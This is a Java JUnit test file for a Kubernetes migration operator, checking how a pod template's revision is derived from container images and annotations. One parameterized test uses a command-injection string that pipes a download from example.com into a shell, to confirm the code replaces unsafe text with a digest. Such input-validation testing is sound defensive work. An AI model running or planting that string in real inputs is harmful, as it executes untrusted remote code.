package net.coderanger.migrations.plan;

import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.PodTemplateSpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What has to be migrated before a pod may start? */
class RevisionTest {

    private static final PodTemplateSpec TWO = Workloads.written(
            "spec:", "  containers:", "  - {name: proxy, image: envoy:1}", "  - {name: app, image: shop:v1}");

    @Test
    void the_image_of_the_first_container_unless_one_is_named() {
        assertThat(Revision.of(TWO, null)).hasValue("envoy:1");
        assertThat(Revision.of(TWO, "app")).hasValue("shop:v1");
    }

    @Test
    void the_first_container_counts_where_the_named_one_is_missing() {
        assertThat(Revision.of(TWO, "django")).hasValue("envoy:1");
        assertThat(Revision.container(TWO, "django")).isEmpty();
    }

    @Test
    void an_annotation_on_the_template_counts_instead() {
        // Given
        var template = Workloads.written(
                "metadata: {annotations: {migrations.coderanger.net/revision: schema-12}}",
                "spec: {containers: [{name: app, image: 'shop:latest'}]}");
        // Then
        assertThat(Revision.of(template, null)).hasValue("schema-12");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "  "})
    void a_blank_annotation_counts_for_nothing(String blank) {
        // Given
        var template = Workloads.written(
                "metadata: {annotations: {migrations.coderanger.net/revision: '" + blank + "'}}",
                "spec: {containers: [{name: app, image: 'shop:v1'}]}");
        // Then
        assertThat(Revision.of(template, null)).hasValue("shop:v1");
    }

    @ParameterizedTest
    @ValueSource(strings = {"v1 final", "x'; curl example.com | sh; '", "-v1", "v1\\nv2"})
    void text_that_could_be_taken_for_something_else_is_told_by_its_digest(String text) {
        // Given
        var annotated = Workloads.written(
                "metadata: {annotations: {migrations.coderanger.net/revision: \"" + text + "\"}}",
                "spec: {containers: [{name: app, image: 'shop:v1'}]}");
        var image = Workloads.written("spec: {containers: [{name: app, image: \"" + text + "\"}]}");
        // Then
        assertThat(Revision.of(annotated, null))
                .hasValueSatisfying(revision -> assertThat(revision).matches("illegal-[0-9a-f]{16}"));
        assertThat(Revision.of(image, null)).isEqualTo(Revision.of(annotated, null));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "registry.example.com:5000/shop/web:v1.2.3_4",
                "shop@sha256:ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
                "2026-11-21+1"
            })
    void what_images_and_versions_are_called_stays_as_it_is(String text) {
        assertThat(Revision.of(Workloads.written("spec: {containers: [{name: app, image: \"" + text + "\"}]}"), null))
                .hasValue(text);
    }

    @Test
    void a_template_without_containers_or_without_image_has_no_revision() {
        assertThat(Revision.of(new PodTemplateSpec(), null)).isEmpty();
        assertThat(Revision.of(Workloads.written("spec: {containers: []}"), null))
                .isEmpty();
        assertThat(Revision.of(Workloads.written("spec: {containers: [{name: app}]}"), null))
                .isEmpty();
    }

    @Test
    void the_operators_own_waiter_is_not_the_first_container() {
        // Given
        var template = Workloads.written(
                "spec:",
                "  containers:",
                "  - {name: migrate-wait-shop, image: waiter}",
                "  - {name: app, image: shop:v1}");
        // Then
        assertThat(Revision.of(template, null)).hasValue("shop:v1");
    }
}
